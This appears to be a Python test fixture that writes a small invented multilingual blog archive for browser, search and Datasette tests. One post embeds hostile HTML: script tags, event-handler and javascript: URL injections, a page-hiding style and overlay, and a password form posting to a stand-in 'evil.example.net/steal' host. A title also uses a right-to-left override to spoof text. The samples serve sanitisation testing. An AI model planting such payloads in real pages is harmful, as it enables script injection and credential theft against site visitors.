"""A small invented archive for the Datasette, search and browser tests, written through Archive.save_posts."""

from __future__ import annotations

from pathlib import Path

from archiver.store import Archive

SITES = {
    "zh": ("https://notes.example.cn/", "随手记"),
    "en": ("https://words.example.org/", "Plain Words"),
}

HOSTILE_HTML = """
<p id="intro">Nothing to see here.</p>
<script>window.pwned = true; document.title = "PWNED";</script>
<img src="x-missing.png" onerror="window.pwned = true; document.title = 'PWNED'" alt="broken">
<svg onload="window.pwned = true"><circle r="4"></circle></svg>
<a id="js-link" href="javascript:window.pwned=true;document.title='PWNED'">click me</a>
<a id="data-link" href="data:text/html,<script>alert(1)</script>">data link</a>
<iframe src="javascript:parent.pwned=true"></iframe>
<form action="https://evil.example.net/steal"><input name="password"><button>Log in</button></form>
<style>body { display: none !important; } .archiver-post::after { content: "PWNED"; }</style>
<div id="overlay" style="position:fixed;top:0;left:0;width:100%;height:100%;background:red;z-index:9999">overlay</div>
<object data="javascript:window.pwned=true"></object>
<meta http-equiv="refresh" content="0;url=javascript:window.pwned=true">
<p onmouseover="window.pwned = true" id="hover">Hover text stays as text.</p>
<pre><code class="language-js">if (a &lt; b) { return "&lt;script&gt;alert(1)&lt;/script&gt;"; }
  indented line</code></pre>
"""

# (key, site, title, published, tags, categories, author, lang, content_text, content_html or None)
POSTS = [
    ("dict", "zh", "Python 字典的实现原理", "2024-03-02T10:00:00+08:00", ["Python", "数据结构"], ["编程"], "小林", "zh-CN",
     "字典是 Python 中最常用的数据结构，它用哈希表实现，查找很快。", None),
    ("queue", "zh", "用两个栈实现队列", "2024-02-10T09:30:00+08:00", ["算法"], ["编程"], "小林", "zh-CN",
     "队列先进先出，栈后进先出。用两个栈就能实现一个队列。", None),
    ("gc", "zh", "垃圾回收是怎样工作的", "2023-11-05T20:00:00+08:00", ["运行时"], ["编程"], "阿明", "zh-CN",
     "垃圾回收器会找出不再使用的对象，标记清除是最常见的垃圾回收算法。", None),
    ("decoy", "zh", "周末随笔", "2023-11-20T08:00:00+08:00", ["生活"], ["随笔"], "阿明", "zh-CN",
     "垃圾分类之后，纸张可以回收利用。今天写了几个字，又翻了翻词典。排队的人很多，列车晚点了。", None),
    ("running", "en", "Running a garbage collector by hand", "2024-01-15T18:00:00-05:00", ["gc", "Python"],
     ["Programming"], "Dana", "en",
     "Sometimes the collector runs too late. We forced the garbage collector to run between requests.", None),
    ("queues", "en", "Notes on queues and stacks", "2022-07-01T12:00:00-05:00", ["algorithms"], ["Programming"],
     "Dana", "en", "A queue is first in, first out. Stacks are last in, first out.", None),
    ("ja", "zh", "ガベージコレクションの仕組み", "2024-04-01T12:00:00+09:00", ["ランタイム"], [], "小林", "ja",
     "東京で開催された勉強会で、ガベージコレクションについて話しました。", None),
    ("ko", "zh", "쓰레기 수집기 이야기", "2024-04-03T12:00:00+09:00", [], [], "小林", "ko",
     "가비지 컬렉션은 메모리를 자동으로 회수합니다.", None),
    ("hostile", "en", "A perfectly normal post", "2024-05-01T08:00:00+00:00", ["security"], ["Programming"],
     "Mallory", "en", "Nothing to see here. Hover text stays as text.", HOSTILE_HTML),
]


def build_sample_archive(db_path: Path) -> dict[str, int]:
    """Write SITES and POSTS (and one crawl with an error) into a new archive; returns post ids by key."""
    with Archive(db_path) as archive:
        crawl_id = archive.start_crawl([url for url, _ in SITES.values()], {})
        site_ids = {
            key: archive.upsert_site(url=url, title=title, engine="hexo", theme=None, feeds=[], sitemaps=[], lang=None)
            for key, (url, title) in SITES.items()
        }
        records = []
        for key, site, title, published, tags, categories, author, lang, text, content_html in POSTS:
            url = f"{SITES[site][0]}posts/{key}/"
            records.append(
                {
                    "site_id": site_ids[site],
                    "url": url,
                    "url_key": url.split("://", 1)[1].rstrip("/"),
                    "title": title,
                    "excerpt": text[:30],
                    "excerpt_source": "listing",
                    "published": published,
                    "author": author,
                    "lang": lang,
                    "tags": tags,
                    "categories": categories,
                    "content_html": content_html or f"<p>{text}</p>",
                    "content_text": text,
                    "content_markdown": text,
                    "page_status": 200,
                }
            )
        archive.save_posts(records, crawl_id)
        archive.log_error(crawl_id, f"{SITES['en'][0]}posts/gone/", "http-error", "HTTP 404 Not Found", status=404)
        archive.finish_crawl(crawl_id, "partial", {"pages_fetched": 12, "message": "1 page failed"})
        return {key: row[0] for key, row in zip(
            [post[0] for post in POSTS],
            archive.db.execute("SELECT id FROM posts ORDER BY id").fetchall(),
            strict=True,
        )}


# --- posts that test how things are shown: bidi tricks, lists, remote images, long addresses, whole-post excerpts

# A right-to-left override in a title: shown raw, "evil twin" reads reversed and so does the date after it.
SPOOF_TITLE = "Notes on \u202eevil twin"
LONG_PATH = "posts/" + "%E4%B8%AD%E6%96%87%E7%9A%84%E5%BE%88%E9%95%BF%E7%9A%84%E5%9C%B0%E5%9D%80" * 6 + "/"
REMOTE_IMAGE = "http://images.example.com/diagram.png"
LAYOUT_HTML = f"""
<p>Before the lists.</p>
<ul><li>first bullet</li><li>second bullet</li></ul>
<ol><li>step one</li><li>step two</li></ol>
<p>A diagram: <img src="{REMOTE_IMAGE}" alt="the diagram"> and after it.</p>
"""
# What a listing that shows whole posts gives as the excerpt: all of it, code-gutter numbers included.
WHOLE_POST_EXCERPT = " ".join(f"{number} print(value)" for number in range(1, 300))
TWIN_SITE = ("https://words.example.net/", "Plain Words")  # another blog with the same title as SITES["en"]


def add_display_posts(db_path: Path) -> dict[str, int]:
    """Add the posts above (and a second blog titled like another) to an archive; returns their ids by key."""
    with Archive(db_path) as archive:
        crawl_id = archive.start_crawl([TWIN_SITE[0]], {})
        en_site = archive.upsert_site(url=SITES["en"][0], title=SITES["en"][1], engine="hexo", theme=None, feeds=[],
                                      sitemaps=[], lang=None)
        twin_site = archive.upsert_site(url=TWIN_SITE[0], title=TWIN_SITE[1], engine="hugo", theme=None, feeds=[],
                                        sitemaps=[], lang=None)
        posts = {
            "spoof": {"site_id": en_site, "url": f"{SITES['en'][0]}posts/spoof/", "title": SPOOF_TITLE,
                      "published": "2021-03-04T10:00:00+00:00", "excerpt": "A title that tries to read backwards.",
                      "content_html": "<p>A title that tries to read backwards.</p>",
                      "content_text": "A title that tries to read backwards.", "author": "Dana", "lang": "en"},
            "layout": {"site_id": en_site, "url": f"{SITES['en'][0]}{LONG_PATH}", "title": "Lists and a diagram",
                       "published": "2021-02-01T09:00:00+00:00", "excerpt": WHOLE_POST_EXCERPT,
                       "content_html": LAYOUT_HTML, "content_text": "Before the lists. first bullet second bullet",
                       "author": "Dana", "lang": "en", "tags": ["layout"]},
            "twin": {"site_id": twin_site, "url": f"{TWIN_SITE[0]}posts/twin/", "title": "From the other Plain Words",
                     "published": "2021-01-10T09:00:00+00:00", "content_text": "Another blog, the same title.",
                     "content_html": "<p>Another blog, the same title.</p>", "lang": "en"},
        }
        for post in posts.values():
            post["url_key"] = post["url"].split("://", 1)[1].rstrip("/")
        archive.save_posts(list(posts.values()), crawl_id)
        archive.finish_crawl(crawl_id, "ok", {})
        archive.db.execute(
            "INSERT INTO pages (url, url_key, kind, site_id, status, fetched_at, crawl_id) VALUES (?, ?, 'listing', ?, 200, ?, ?)",
            [TWIN_SITE[0], TWIN_SITE[0].split("://")[1], twin_site, "2024-06-01T00:00:00+00:00", crawl_id],
        )
        return {key: archive.db.execute("SELECT id FROM posts WHERE url_key = ?", [post["url_key"]]).fetchone()[0]
                for key, post in posts.items()}
